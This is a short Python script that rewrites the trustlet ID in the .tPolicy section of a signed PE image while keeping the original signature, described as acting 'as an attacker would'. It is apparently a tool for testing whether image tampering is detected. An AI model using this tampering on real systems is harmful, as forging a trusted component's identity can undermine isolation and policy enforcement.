#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Gives a signed trustlet another ID in its policy, as an attacker would, and leaves its signature.

The policy is at the beginning of the section .tPolicy: a version in 8 bytes, the ID in 8 more.
Usage: forge_policy.py TRUSTLET FORGED ID
"""
import argparse
import struct
import sys
from pathlib import Path


def policy_offset(file: bytes) -> int:
    """Where the section .tPolicy begins in the file."""
    pe = struct.unpack_from("<I", file, 0x3C)[0]
    count = struct.unpack_from("<H", file, pe + 6)[0]
    table = pe + 24 + struct.unpack_from("<H", file, pe + 20)[0]
    for section in range(table, table + 40 * count, 40):
        if file[section:section + 8] == b".tPolicy":
            return struct.unpack_from("<I", file, section + 20)[0]
    sys.exit("forge_policy.py: the image has no section .tPolicy")


def forge(file: bytes, trustlet: int) -> bytes:
    offset = policy_offset(file) + 8
    return file[:offset] + struct.pack("<Q", trustlet) + file[offset + 8:]


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("trustlet", type=Path)
    parser.add_argument("forged", type=Path)
    parser.add_argument("id", type=int)
    words = parser.parse_args()
    words.forged.write_bytes(forge(words.trustlet.read_bytes(), words.id))
